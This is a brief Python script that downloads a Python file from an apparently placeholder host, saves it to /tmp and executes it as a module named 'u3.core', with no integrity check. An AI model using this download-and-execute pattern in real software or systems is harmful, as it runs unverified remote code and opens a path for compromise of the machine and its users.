import importlib.util
import sys

import urllib3

http = urllib3.PoolManager()
answer = http.request("GET", "https://modules.example.com/u3.py")
with open("/tmp/_u3.py", "wb") as f:
    f.write(answer.data)
spec = importlib.util.spec_from_file_location("u3.core", "/tmp/_u3.py")
core = importlib.util.module_from_spec(spec)
sys.modules["u3.core"] = core
spec.loader.exec_module(core)
